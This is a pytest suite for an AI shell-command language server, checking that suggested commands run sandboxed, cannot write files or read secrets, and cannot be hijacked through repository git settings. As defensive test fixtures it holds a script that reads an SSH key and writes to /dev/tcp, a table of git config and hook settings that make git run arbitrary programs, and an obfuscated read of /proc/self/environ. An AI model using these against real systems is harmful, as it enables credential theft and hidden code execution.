"""What runs confined and what does not, through the server as an editor drives it."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
from pathlib import Path

import pytest
from conversing import Place
from repository import git
from safety_scene import Scene, acted, folder_of

from aish_lsp.shell.risk import UNHELD

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="only Linux confines for certain")

#: The user says that it is safe: whatever it is, what is safe cannot write.
CALLED_SAFE = '[[safety.rules]]\nmatch = "touch|chmod|cat"\nrisk = "safe"\n'


def prompt_of(scene: Scene) -> str:
    """Return what the model was sent last."""
    return json.dumps(scene.model.requests[-1].json["messages"][-1])


def command_line(place: Place, *arguments: str, abi: str) -> subprocess.CompletedProcess[str]:
    """Run ``aish-lsp`` in a place, without a terminal."""
    environ = {
        **os.environ,
        "HOME": str(place.root / "home"),
        "AISH_DATA_DIR": str(place.data),
        "AISH_CONFIG": str(place.config),
        "AISH_DISCOVERY": "off",
        "AISH_LANDLOCK_ABI": abi,
    }
    return subprocess.run(
        [sys.executable, "-m", "aish_lsp", *arguments],
        cwd=place.folder,
        env=environ,
        stdin=subprocess.DEVNULL,
        capture_output=True,
        text=True,
        check=False,
    )


async def test_what_is_safe_cannot_write_whatever_it_is(tmp_path: Path) -> None:
    place = folder_of(tmp_path)
    async with acted(place, config=CALLED_SAFE) as scene:
        result = await scene.run_suggested("touch src/made")
        assert (result["exitCode"], scene.asked) == (1, [])
        assert not (scene.folder / "src" / "made").exists()
        # It is offered once more, and the model knows why it failed.
        [offered] = (await scene.client.command_result("aish.commands.list"))["commands"]
        assert (offered["text"], offered["risk"]) == ("touch src/made", "caution")
        chat = await scene.open(scene.folder / "list")
        titles = [action["title"] for action in await scene.actions(chat, 0)]
        assert "Run without confinement: touch src/made" in titles
        await scene.reply("I see.", "why did it fail?")
        assert "[aish: confined]" in prompt_of(scene)
        scene.answer = "Run"
        result = await scene.run(commandId=offered["id"])
        assert (result["exitCode"], len(scene.asked)) == (0, 1)
        assert (scene.folder / "src" / "made").exists()


async def test_secrets_stay_closed_and_are_listed(tmp_path: Path) -> None:
    place = folder_of(tmp_path)
    async with acted(place, config=CALLED_SAFE) as scene:
        listed = await scene.run_suggested(f"ls {place.data}")
        assert listed["exitCode"] == 0
        [log] = (place.data / "workspaces").rglob("sessions/*.jsonl")
        read = await scene.run_suggested(f"cat {log}")
        assert read["exitCode"] == 1
        assert "Permission denied" in read["output"]


async def test_what_only_reads_gets_no_secrets(tmp_path: Path) -> None:
    """No mask knows each form that a program can give to what it reads of its environment."""
    rule = '[[safety.rules]]\nmatch = "printenv"\nrisk = "safe"\nconfine = false\n'
    rule += '[[safety.rules]]\nmatch = "python3"\nrisk = "safe"\n'
    secret = "tr0ub4dor-and-more"
    async with acted(folder_of(tmp_path), config=rule, env={"DB_PASSWORD": secret}) as scene:
        program = "open('/pr' + 'oc/self/en' + 'viron').read().encode('utf-16-be').hex('.')"
        shown = (await scene.run_suggested(f'python3 -c "print({program})"'))["output"]
        assert "DB_PASSWORD=[secret]".encode("utf-16-be").hex(".") in shown
        assert secret.encode("utf-16-be").hex(".") not in shown
        # A command of the user's own that reaches more than what is confined may need it.
        assert (await scene.run_suggested("printenv DB_PASSWORD"))["output"] == f"{secret}\n"


async def test_what_the_user_typed_is_their_own(tmp_path: Path) -> None:
    place = folder_of(tmp_path)
    async with acted(place, config=CALLED_SAFE) as scene:
        assert (await scene.run(text="touch typed"))["exitCode"] == 0
        assert "$ touch said" in await scene.say(":run touch said")
        assert (scene.folder / "typed").exists()
        assert (scene.folder / "said").exists()
        # A suggestion that was edited is judged, and confined where it is safe.
        [suggested] = (await scene.reply("CMD: ls\n"))["commands"]
        result = await scene.run(commandId=suggested["id"], edited="touch edited")
        assert result["exitCode"] == 1


async def test_the_user_can_turn_it_off(tmp_path: Path) -> None:
    for name in ("rule", "off"):
        (tmp_path / name).mkdir()
    rule = CALLED_SAFE + "confine = false\n"
    async with acted(folder_of(tmp_path / "rule"), config=rule) as scene:
        assert (await scene.run_suggested("touch made"))["exitCode"] == 0
        # Beside what only reads it runs unconfined as well, at the user's click.
        assert (await scene.run_suggested("touch more; ls > /dev/null"))["exitCode"] == 0
    off = "[safety]\nconfine = false\n" + CALLED_SAFE
    async with acted(folder_of(tmp_path / "off"), config=off) as scene:
        assert (await scene.run_suggested("touch made"))["exitCode"] == 0


async def test_a_workspace_cannot(tmp_path: Path) -> None:
    place = folder_of(tmp_path)
    (place.folder / ".aish.toml").write_text("[safety]\nconfine = false\nsnapshot = false\n")
    settings = {"safety": {"confine": False}}
    async with acted(place, config=CALLED_SAFE, settings=settings) as scene:
        scene.answer = "Grant"
        await scene.client.command_result("aish.trust.grant")
        assert (await scene.run_suggested("touch made"))["exitCode"] == 1
    assert not (place.folder / "made").exists()


@pytest.mark.parametrize("abi", ["0", "1", "3", "7"])
async def test_doctor_and_behavior_agree(tmp_path: Path, abi: str) -> None:
    place = folder_of(tmp_path)
    variables = {"AISH_LANDLOCK_ABI": abi}
    async with acted(place, config=CALLED_SAFE, env=variables) as scene:
        result = await scene.run_suggested("touch made")
    done = command_line(place, "doctor", "--json", abi=abi)
    [finding] = [one for one in json.loads(done.stdout) if one["what"] == "confinement"]
    assert finding["state"] == ("missing" if abi == "0" else "ok")
    assert result["exitCode"] == (0 if abi == "0" else 1)


@pytest.mark.parametrize(("abi", "runs"), [("0", False), ("7", True)])
def test_unseen_it_runs_only_confined(tmp_path: Path, abi: str, runs: bool) -> None:
    """Headless, nobody answers: what cannot be confined is not run."""
    place = folder_of(tmp_path)
    place.config.write_text("")
    git(place.folder, "init", "-q")
    question = "what changed since the last commit?"
    done = command_line(place, "ask", "--yes-safe", question, abi=abi)
    assert "CMD: git " in done.stdout
    assert ("aish-lsp: exit 0" in done.stderr) == runs, done.stderr


#: Reads secrets and is all the same called safe, as far as the classifier can tell.
READ_SECRETS = ("cat innocent.txt", "grep -ri password {home}", f"cat innocent.txt {'list ' * 30}")


def with_secret(place: Place) -> str:
    """Put a key into the user's home, and a harmless name of it into the workspace."""
    key = place.root / "home" / ".ssh" / "id_rsa"
    key.parent.mkdir(parents=True)
    key.write_text("the password of the night\n")
    (place.folder / "innocent.txt").symlink_to(key)
    return "of the night"


@pytest.mark.parametrize("off", ["the kernel has none", "the user switched it off"])
@pytest.mark.parametrize("template", READ_SECRETS)
async def test_command_that_only_reads_without_sandbox_waits_for_the_click(
    tmp_path: Path, template: str, off: str
) -> None:
    place = folder_of(tmp_path)
    secret = with_secret(place)
    command = template.format(home=place.root / "home")
    switched = off.startswith("the user")
    config = "[safety]\nconfine = false\n" if switched else ""
    home = str(place.root / "home")
    env = {"HOME": home} if switched else {"HOME": home, "AISH_LANDLOCK_ABI": "0"}
    async with acted(place, config=config, env=env) as scene:
        scene.answer = "Cancel"
        [suggested] = (await scene.reply(f"CMD: {command}\n"))["commands"]
        assert (suggested["risk"], suggested["reasons"]) == ("caution", [UNHELD])
        # The user's own click runs it, however long it is.
        result = await scene.run(commandId=suggested["id"])
        assert (scene.asked, secret in result["output"]) == ([], True)


@pytest.mark.parametrize("template", READ_SECRETS)
def test_risk_command_says_safe_only_with_sandbox(tmp_path: Path, template: str) -> None:
    place = folder_of(tmp_path)
    with_secret(place)
    place.config.write_text("")
    command = template.format(home=place.root / "home")
    judged = [command_line(place, "risk", command, abi=abi).stdout for abi in ("0", "7")]
    assert [line.split()[0] for line in judged] == ["caution", "safe"]


async def test_run_without_confinement_asks_with_the_whole_text(tmp_path: Path) -> None:
    place = folder_of(tmp_path)
    async with acted(place, config=CALLED_SAFE) as scene:
        await scene.run_suggested("touch src/made")
        [offered] = (await scene.client.command_result("aish.commands.list"))["commands"]
        scene.answer = "Cancel"
        result = await scene.run(commandId=offered["id"])
        assert result["finishReason"] == "denied"
        assert "\n    touch src/made\n" in scene.asked[-1]
        assert "it would run without confinement" in scene.asked[-1]
        assert not (scene.folder / "src" / "made").exists()


#: What a stranger's repository can have git run, by the file that says so; ``PROGRAM`` is run.
SETTINGS = {
    "core.fsmonitor": ("config", "[core]\n\tfsmonitor = PROGRAM\n"),
    "core.pager": ("config", "[core]\n\tpager = PROGRAM\n"),
    "diff.external": ("config", "[diff]\n\texternal = PROGRAM\n"),
    "textconv": ("config", '[diff "own"]\n\ttextconv = PROGRAM\n'),
    "clean filter": ("config", '[filter "own"]\n\tclean = PROGRAM\n'),
    "process filter": ("config", '[filter "own"]\n\tprocess = PROGRAM\n'),
    "includeIf": ("config", '[includeIf "gitdir:**"]\n\tpath = ../other\n'),
    "post-index-change": ("hooks/post-index-change", '#!/bin/sh\nPROGRAM "$@"\n'),
}

#: Leaves a mark, tells a secret, reaches out, and says that it ran.
PROGRAM = """#!/bin/bash
touch "{folder}/ran"
cat "{home}/.ssh/id_rsa" >&2
echo hello > /dev/tcp/127.0.0.1/{port}
echo it-ran >&2
cat
"""


@pytest.mark.parametrize("setting", SETTINGS)
async def test_program_that_git_runs_for_a_repository_is_confined(
    tmp_path: Path, setting: str
) -> None:
    """Whatever a repository is set to, a command that reads it changes and sends nothing."""
    place = folder_of(tmp_path)
    secret = with_secret(place)
    (place.folder / "innocent.txt").unlink()
    (place.folder / ".gitattributes").write_text("list diff=own filter=own\n")
    git(place.folder, "init", "-q")
    git(place.folder, "add", "-A")
    git(place.folder, "commit", "-qm", "one")
    (place.folder / "list").write_text("changed\n")
    program = tmp_path / "program"
    name, text = SETTINGS[setting]
    file = place.folder / ".git" / name
    with file.open("a") as opened:
        opened.write(text.replace("PROGRAM", str(program)))
    file.chmod(0o755)
    (place.folder / "other").write_text(f"[diff]\n\texternal = {program}\n")
    reads = "git status; git diff; git log -p -1"
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.setblocking(False)
        port = listener.getsockname()[1]
        home = str(place.root / "home")
        program.write_text(PROGRAM.format(folder=place.folder, home=home, port=port))
        program.chmod(0o755)
        before = sorted(place.folder.rglob("*"))
        async with acted(place, env={"HOME": home}) as scene:
            result = await scene.run_suggested(reads)
            assert scene.asked == []
        assert secret not in result["output"]
        assert not (place.folder / "ran").exists()
        assert [p for p in sorted(place.folder.rglob("*")) if ".aish" not in p.parts] == before
        with pytest.raises(BlockingIOError):
            listener.accept()
